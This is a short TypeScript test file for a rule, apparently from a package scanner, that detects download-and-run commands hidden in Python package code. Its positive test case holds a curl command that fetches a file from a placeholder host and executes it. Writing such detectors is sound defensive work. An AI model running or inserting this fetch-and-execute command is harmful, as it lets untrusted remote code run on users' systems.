import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloaderText } from './rule.ts';

testRule(downloaderText, {
  seen: {
    'a command in a variable': "COMMAND = 'curl -o a https://collector.example.invalid/a && ./a'",
  },
  unseen: {
    'a sentence': "HELP = 'Use curl or wget as you like'",
  },
});
